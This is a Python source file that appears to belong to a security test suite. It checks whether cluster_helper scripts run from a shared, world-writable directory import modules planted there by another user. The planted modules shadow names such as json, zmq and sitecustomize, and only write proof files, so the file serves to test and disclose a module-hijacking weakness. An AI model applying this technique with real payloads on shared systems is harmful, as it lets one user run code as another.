"""A script of the victim's, started in a directory that others write to, asks for a cluster.

There lies whatever Python would look for in the working directory: cluster_helper itself, modules
of the standard library, packages that it needs. Engines start there, too, those of a job as well.
"""

from __future__ import annotations

from collections.abc import Iterator, Sequence
from contextlib import contextmanager

from people import done, root
from report import Report

from attacks.scene import NODE, STRANGER, UID, VICTIM

TOP = "/home/hijack"  # shared, so that jobs find it
WORK, PROOFS = f"{TOP}/work", f"{TOP}/proofs"
PYTHON = "~/anaconda/bin/python"
MODULES = (
    "cluster_helper", "enum", "json", "logging", "ipyparallel", "zmq", "psutil", "IPython",
    "tornado", "traitlets", "sitecustomize", "usercustomize", "ipyparallel_config",
    "ipcontroller_config", "ipengine_config", "ipcluster_config",
)  # fmt: skip
# What a notebook's cell holds, as a script that lies in the victim's home.
SCRIPT = """
from cluster_helper.cluster import cluster_view
with cluster_view({arguments}) as view:
    assert view.map(abs, [-1, -2]) is not None
"""
HERE = 'num_jobs=1, cores_per_job=1, extra_params={"run_local": True}'
IN_A_JOB = 'scheduler="slurm", queue="main", num_jobs=1, cores_per_job=1'


HOW = {
    "script": f"{PYTHON} ~/cluster_script.py",
    "isolated script": f"{PYTHON} -I ~/cluster_script.py",
    "script behind a link": f"{PYTHON} mine.py",  # Python looks beside what the link leads to
}


def cluster_view(report: Report, *, short: bool = False) -> None:
    """A module of the stranger's for every name that is imported, with engines on this node."""
    with _stage(HERE):
        for how in list(HOW)[:1] if short else HOW:
            _attacked(report, how, how)


def cluster_view_in_a_job(report: Report, *, short: bool = False) -> None:
    """The same with engines that the scheduler starts on another node, in the same directory."""
    with _stage(IN_A_JOB):
        for how in list(HOW)[:1] if short else HOW:
            _attacked(report, how, f"{how} with a job")


@contextmanager
def _stage(arguments: str) -> Iterator[None]:
    done("setup")
    done("parallel")
    VICTIM.says("cat >~/cluster_script.py", SCRIPT.format(arguments=arguments))
    root(NODE, f"rm -rf {TOP}; install -d {TOP} && install -d -m 1777 {WORK} {PROOFS}")
    try:
        VICTIM.says(f"ln -s ~/cluster_script.py {WORK}/mine.py")
        _plant()
        _require_dangerous()
        yield
    finally:
        root(NODE, f"rm -rf {TOP}")
        VICTIM.says("rm -f ~/cluster_script.py")


def _attacked(report: Report, how: str, called: str) -> None:
    ran = VICTIM.run(f"cd {WORK} && {HOW[how]}")
    found = _imported()
    for module in MODULES:
        report.note(
            f"{module} beside a {called}", *(["it was imported"] if module in found else []),
            what="modules in the working directory", line="cluster_view",
        )  # fmt: skip
    failed = [(ran.stdout + ran.stderr).strip()[-300:]] if ran.returncode else []
    report.note(f"a cluster for a {called}", *failed)


def _plant() -> None:
    """As a package and as a module; each says that it ran and that is all."""
    for module in MODULES:
        proof = f"import os; open('{PROOFS}/{module}-%d' % os.getuid(), 'w').close()"
        STRANGER.says(
            f'cd {WORK} && mkdir {module} && echo "{proof}" | tee {module}.py >{module}/__init__.py'
        )


def _imported() -> Sequence[str]:
    """The modules that ran as the victim since the last look, on whatever node."""
    found = VICTIM.says(f"ls {PROOFS}").split()
    root(NODE, f"find {PROOFS} -mindepth 1 -delete")
    return [name.removesuffix(f"-{UID}") for name in found if name.endswith(f"-{UID}")]


def _require_dangerous() -> None:
    """The working directory is the first that `python -m` and `python -c` look into."""
    for module in MODULES:
        VICTIM.run(f"cd {WORK} && {PYTHON} -S -c 'import {module}'")
    missing = set(MODULES) - set(_imported())
    assert not missing, f"these are not imported by a careless program: {sorted(missing)}"
